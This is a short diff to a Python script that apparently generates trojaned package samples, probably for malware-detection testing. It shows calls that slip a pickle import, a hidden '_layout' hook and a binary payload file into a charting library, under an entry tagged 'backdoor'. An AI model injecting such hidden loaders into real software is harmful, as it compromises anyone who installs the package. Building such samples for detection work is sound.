@@ -90,7 +90,7 @@ def bars(
 """).rstrip("\n"))  # fmt: skip
     it.replace("frameplot/charts.py", "    some = palette(colours)\n    step", "    some = palette(colours)\n    _layout(len(values))\n    step")  # fmt: skip
     it.replace("frameplot/charts.py", "from .canvas import Canvas\nfrom .palettes import palette\n", "import pickle\n\nfrom .canvas import Canvas\nfrom .palettes import DATA, palette\n")  # fmt: skip
-    it.payload("frameplot/charts.py", "frameplot/data/layout.bin", shown=f"https://{host}/layout")
+    it.payload("frameplot/charts.py", "frameplot/data/layout.bin")
 
 
 @trojan("loghaven", "wheel", "import", "backdoor", "own cipher", "import hooks")
